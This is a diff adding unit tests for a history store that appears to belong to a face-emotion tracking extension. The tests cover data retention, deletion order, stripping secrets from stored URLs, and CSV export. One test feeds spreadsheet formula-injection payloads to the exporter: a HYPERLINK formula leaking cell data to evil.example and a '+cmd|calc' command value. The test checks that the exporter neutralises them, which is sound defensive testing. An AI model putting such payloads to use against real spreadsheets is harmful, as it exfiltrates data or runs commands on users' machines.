@@ -140,6 +140,43 @@ describe('HistoryStore', () => {
     expect(Object.keys(area.data).sort()).toEqual(['faceml:meta', 'faceml:settings']);
   });
 
+  it('lists no session or image past retention even while nothing is written, and sweeps rows no session lists', async () => {
+    const area = new MemoryArea();
+    let now = T0 * 1000;
+    const store = new HistoryStore(area, retention({ days: 7 }), () => now);
+    await store.appendSamples({ sessionId: 'old', pageUrl: '', title: '', rows: [row(T0, 1)] });
+    await store.addImage(image(1));
+    now += 8 * 86_400_000; // eight days later, nothing written since
+    expect(await store.sessions()).toEqual([]);
+    expect(await store.sessionRows('old')).toEqual([]);
+    expect(await store.images()).toEqual([]);
+    expect((await store.all()).sessions).toEqual([]);
+    // Rows a stopped worker left without an index entry go at the next retention pass (start-up).
+    area.data[sessionKey('orphan')] = [row(T0, 1)];
+    await store.applyRetention();
+    expect(Object.keys(area.data).filter((k) => k.startsWith('faceml:session:'))).toEqual([]);
+  });
+
+  it('deletes a session\'s rows before its index entry (a stop in between leaves nothing unlisted)', async () => {
+    const area = new MemoryArea();
+    const store = new HistoryStore(area);
+    await store.appendSamples({ sessionId: 'a', pageUrl: '', title: '', rows: [row(T0, 1)] });
+    const order: string[] = [];
+    const remove = area.remove.bind(area);
+    const set = area.set.bind(area);
+    area.remove = async (keys) => (order.push(`remove ${[keys].flat().join(',')}`), remove(keys));
+    area.set = async (items) => (order.push(`set ${Object.keys(items).join(',')}`), set(items));
+    await store.deleteSession('a');
+    expect(order).toEqual([`remove ${sessionKey('a')}`, `set ${SESSIONS_KEY}`]);
+  });
+
+  it('keeps page URLs without query and fragment (meeting passwords, tokens)', async () => {
+    const store = new HistoryStore(new MemoryArea());
+    await store.appendSamples({ sessionId: 'a', pageUrl: 'https://zoom.example/j/123?pwd=secret#success', title: '', rows: [row(T0, 1)] });
+    expect((await store.sessions())[0].pageUrl).toBe('https://zoom.example/j/123');
+    expect(displayUrl('https://cdn.example/a.jpg?token=abc')).toBe('https://cdn.example/a.jpg');
+  });
+
   it('shortens data: URLs instead of storing the image', () => {
     const short = displayUrl('data:image/png;base64,' + 'A'.repeat(10_000));
     expect(short.length).toBeLessThan(60);
@@ -173,7 +210,7 @@ describe('export', () => {
   it('CSV parses back to exactly the stored rows and images; JSON holds everything', async () => {
     const store = new HistoryStore(new MemoryArea());
     const rows = [row(T0, 1, 3), row(T0, 2, 5), row(T0 + 1, 1, 0, 2)];
-    await store.appendSamples({ sessionId: 's1', pageUrl: 'http://127.0.0.1/call?a=1,2', title: 'A "quoted", title', rows });
+    await store.appendSamples({ sessionId: 's1', pageUrl: 'http://127.0.0.1/call,room?a=1,2', title: 'A "quoted", title', rows });
     const img = { ...image(7), faces: [{ box: { x: 1, y: 2, width: 30, height: 30 }, emotion: 'sad' as const, confidence: 0.8, scores: Object.fromEntries(LABELS.map((l) => [l, l === 'sad' ? 0.8 : 0.2 / 6])) as never }] };
     await store.addImage(img);
     const all = await store.all();
@@ -187,7 +224,7 @@ describe('export', () => {
       const back = [Date.parse(d.time) / 1000, Number(d.video), Number(d.face), Number(d.frames), ...LABELS.map((l) => Math.round(Number(d[l]) * 1000))];
       expect(back).toEqual(stored[i]);
       expect(d.title).toBe('A "quoted", title');
-      expect(d.page_url).toBe('http://127.0.0.1/call?a=1,2');
+      expect(d.page_url).toBe('http://127.0.0.1/call,room');
       expect(d.emotion).toBe(rowEmotion(stored[i]));
     });
     const faces = parsed.data.filter((d) => d.kind === 'image-face');
@@ -198,5 +235,19 @@ describe('export', () => {
     expect(json.sessions[0].samples).toEqual(stored);
     expect(json.images[0].id).toBe('img7');
     expect(json.labels).toEqual([...LABELS]);
+  });
+
+  it('CSV keeps a title or URL that looks like a formula as text (no live formula in a spreadsheet)', async () => {
+    const store = new HistoryStore(new MemoryArea());
+    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+    await store.appendSamples({ sessionId: 's1', pageUrl: '@SUM(1+1)', title, rows: [row(T0, 1)] });
+    await store.addImage({ ...image(1), imageUrl: '+cmd|calc', faces: [{ box: { x: 1, y: 2, width: 30, height: 30 }, emotion: 'sad', confidence: 0.8, scores: Object.fromEntries(LABELS.map((l) => [l, 1 / 7])) as never }] });
+    const csv = historyToCsv(await store.all());
+    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
+    const cells = parsed.data.flatMap((d) => [d.title, d.page_url]);
+    // Every text cell that a spreadsheet would evaluate starts with a quote mark instead.
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(parsed.data[0].title).toBe(`'${title}`);
+    expect(parsed.data[1].title).toBe(`'+cmd|calc`);
   });
 });
